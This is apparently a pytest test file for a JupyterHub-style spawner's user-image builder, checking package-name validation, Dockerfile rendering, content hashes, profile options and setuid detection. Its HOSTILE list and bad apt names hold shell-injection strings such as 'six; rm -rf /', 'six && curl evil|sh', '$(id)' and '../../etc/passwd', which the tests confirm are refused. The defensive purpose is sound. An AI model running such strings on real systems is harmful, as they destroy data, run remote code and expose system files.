"""userimages: strict package grammars, a fixed Dockerfile template, content-hash names (pure)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mesosspawner.images import userimages as ui

DIGEST = "sha256:" + "a" * 64
BASES = {"base-notebook": f"127.0.0.1:5000/mesosspawner/base-notebook@{DIGEST}"}


def request(**kw) -> ui.BuildRequest:
    args = dict(username="mss-alice", uid=1001, gid=1001, base="base-notebook", bases=BASES)
    args.update(kw)
    return ui.validate_request(**args)


@pytest.mark.parametrize(
    ("given_", "expected"),
    [
        ("six", "six"),
        ("Typing_Extensions", "typing-extensions"),
        ("requests>=2.31", "requests>=2.31"),
        ("numpy==1.26.*", "numpy==1.26.*"),
        ("pkg~=1.0rc1", "pkg~=1.0rc1"),
        ("a<2", "a<2"),
    ],
)
def test_pip_names_and_simple_versions_pass_normalized(given_, expected):
    assert ui.validate_pip(given_) == expected


HOSTILE = [
    "six; rm -rf /",
    "six && curl evil|sh",
    "$(id)",
    "`id`",
    "six\nRUN id",
    "--index-url=http://evil/",
    "-e git+https://x/y",
    "six @ https://evil/six.whl",
    "six[socks]",
    "six>=1,<2",
    "six>=1 ",
    "'six'",
    "six>=1.*",
    "../../etc/passwd",
    "",
    "x" * 101,
]


@pytest.mark.parametrize("bad", HOSTILE)
def test_hostile_pip_strings_are_refused_naming_the_string(bad):
    with pytest.raises(ui.RequestError) as exc:
        ui.validate_pip(bad)
    assert repr(bad)[:20] in str(exc.value)
    assert "nothing was built" in str(exc.value)


@pytest.mark.parametrize("good", ["graphviz", "g++", "libc6-dev", "python3.11", "r-base"])
def test_debian_package_names_pass(good):
    assert ui.validate_apt(good) == good


@pytest.mark.parametrize(
    "bad", ["a", "Graphviz", "-rf", "vim=2:9.0", "vim;id", "curl|sh", "libc6:amd64", "x y", "$x"]
)
def test_bad_debian_names_are_refused(bad):
    with pytest.raises(ui.RequestError, match="apt package"):
        ui.validate_apt(bad)


@given(st.text(max_size=40))
def test_whatever_passes_validation_is_shell_and_dockerfile_inert(text):
    for check in (ui.validate_pip, ui.validate_apt):
        try:
            value = check(text)
        except ui.RequestError:
            continue
        assert not set(value) & set(" \t\r\n;&|$`'\"\\()[]{}#!@/")


def test_request_packages_are_sorted_deduplicated_and_limited():
    req = request(pip="six Requests requests", apt=["graphviz", "curl"])
    assert req.pip == ("requests", "six")
    assert req.apt == ("curl", "graphviz")
    with pytest.raises(ui.RequestError, match="limit is 2"):
        request(pip="a1 b1 c1", max_packages=2)
    with pytest.raises(ui.RequestError, match="twice"):
        request(pip="six==1 six==2")
    with pytest.raises(ui.RequestError, match="not allowed"):
        request(apt="curl", allow_apt=False)


def test_request_needs_a_known_pinned_base_and_real_ids():
    with pytest.raises(ui.RequestError, match="not one of the lab's images: base-notebook"):
        request(base="ubuntu")
    with pytest.raises(ui.RequestError, match="pinned by digest"):
        request(bases={"base-notebook": "x/base-notebook:latest"})
    with pytest.raises(ui.RequestError, match="no uid known"):
        request(uid=None)
    with pytest.raises(ui.RequestError, match="root"):
        request(uid=0)


def test_content_hash_is_the_identity_of_the_request():
    a = request(pip="six requests")
    assert a.content_hash == request(pip=["requests", "six"]).content_hash
    assert len(a.content_hash) == ui.HASH_LENGTH
    others = [
        request(pip="six"),
        request(pip="six requests", uid=1002),
        request(pip="six requests", username="mss-bob"),
        request(pip="six requests", bases={"base-notebook": BASES["base-notebook"][:-1] + "b"}),
    ]
    assert a.content_hash not in {o.content_hash for o in others}


def test_dockerfile_is_the_template_with_quoted_values_only():
    req = request(pip="six requests<3", apt="graphviz")
    text = ui.render_dockerfile(req)
    lines = [line for line in text.splitlines() if line and not line.startswith((" ", "#"))]
    assert [line.split()[0] for line in lines] == ["FROM", "USER", "RUN", "ENV"]
    assert f"FROM {BASES['base-notebook']}" in text
    assert "apt-get install -y --no-install-recommends graphviz" in text
    assert "/opt/notebook/bin/pip install --no-cache-dir 'requests<3' six" in text
    assert "usermod --non-unique --uid 1001 --gid 1001 --login mss-alice" in text
    assert "ENV NB_USER=mss-alice NB_UID=1001 NB_GID=1001" in text
    labels = ui.labels(req, text)
    assert labels[ui.LABEL_HASH] == req.content_hash and labels[ui.LABEL_DOCKERFILE] == text


def test_a_name_that_is_no_posix_user_keeps_jovyan():
    req = request(username="Alice@lab.example")
    assert req.nb_user == "jovyan"
    assert "--login" not in ui.render_dockerfile(req)


def test_repositories_are_per_person_and_docker_valid():
    import re

    component = re.compile(r"[a-z0-9]+(?:(?:[._]|__|[-]*)[a-z0-9]+)*")
    for name in ["mss-alice", "Alice", "-x", "é", "a/b", "..", "x-2d"]:
        repo = ui.image_repo(name, "base-notebook")
        assert all(component.fullmatch(part) for part in repo.split("/")), repo
        assert ui.owner_of(repo) == ui.user_component(name)
    assert ui.user_component("-") != ui.user_component("x-")
    assert ui.image_repo("mss-alice", "base-notebook") == (
        "mesosspawner-users/mss-2dalice/base-notebook"
    )


def test_profile_offers_images_pinned_by_digest_on_docker_never_as_root():
    images = [
        ui.UserImage(
            "r:5000",
            "mesosspawner-users/mss-2dalice/base-notebook",
            "abc",
            DIGEST,
            owner="mss-alice",
            packages="pip: six",
            created="2026-01-02",
        ),
        ui.UserImage(
            "r:5000",
            "mesosspawner-users/mss-2dalice/base-notebook",
            "def",
            DIGEST,
            owner="mss-alice",
            created="2026-01-01",
        ),
    ]
    assert ui.user_images_profile([]) == (None, [])
    profile, skipped = ui.user_images_profile(images)
    assert skipped == []
    choices = profile["profile_options"]["image"]["choices"]
    assert list(choices) == ["img-abc", "img-def"]
    assert choices["img-abc"]["default"] is True
    assert choices["img-abc"]["mesosspawner_override"] == {
        "image": f"r:5000/mesosspawner-users/mss-2dalice/base-notebook@{DIGEST}",
        "containerizer": "docker",
        "gpus": 0,
        "allow_root": False,
        "image_starts_as_root": False,
    }
    # The profile is valid for the spawner's one validation path.
    from mesosspawner import profiles

    (loaded,) = profiles.load_profile_list(
        [profile],
        allowed_overrides={"image", "containerizer", "gpus", "allow_root", "image_starts_as_root"},
    )
    _, override = profiles.resolve([loaded], {"profile": "my-images", "image": "img-def"})
    assert override["image"].endswith(DIGEST)
    with pytest.raises(profiles.UserOptionsError):
        profiles.resolve([loaded], {"profile": "my-images", "image": "img-bobs"})
    assert ui.spawn_query(images[0]) == {
        "profile": "my-images",
        "profile-option-my-images--image": "img-abc",
    }


def test_a_tag_that_makes_no_slug_is_skipped_with_a_reason_not_an_error():
    good = ui.UserImage("r:5000", "mesosspawner-users/mss-2dalice/base-notebook", "abc", DIGEST)
    bad = ui.UserImage("r:5000", "mesosspawner-users/mss-2dalice/base-notebook", "V1.0", DIGEST)
    profile, skipped = ui.user_images_profile([bad, good])
    assert list(profile["profile_options"]["image"]["choices"]) == ["img-abc"]
    assert skipped == [
        "tag 'V1.0' of mesosspawner-users/mss-2dalice/base-notebook makes no profile slug"
        " (lower-case letters, digits, '-' and '_'): skipped"
    ]
    assert ui.user_images_profile([bad]) == (None, skipped)


def test_the_build_script_is_the_run_line():
    req = request(pip="six", apt="graphviz")
    script = ui.run_script(req)
    assert "\\\n" not in script
    assert script.replace(" && ", " \\\n    && ") in ui.render_dockerfile(req)
    assert ui.image_env(req) == {"NB_USER": "mss-alice", "NB_UID": "1001", "NB_GID": "1001"}


@pytest.mark.parametrize(
    ("mode", "xattrs", "is_file", "why"),
    [
        (0o104755, [], True, "/usr/bin/su: setuid"),
        (0o102755, [], True, "/usr/bin/su: setgid"),
        (0o106755, [], True, "/usr/bin/su: setuid and setgid"),
        (0o100755, ["security.capability"], True, "/usr/bin/su: file capabilities"),
        (0o104755, ["security.capability"], True, "/usr/bin/su: setuid and file capabilities"),
        (0o100755, ["user.comment", "security.selinux"], True, None),
        (0o042775, [], False, None),  # a setgid directory: group inheritance, harmless
        (0o101777, [], True, None),  # the sticky bit is no privilege
    ],
)
def test_privileged_files_are_setuid_setgid_or_capable(mode, xattrs, is_file, why):
    assert ui.privileged("usr/bin/su", mode, xattrs, is_file) == why
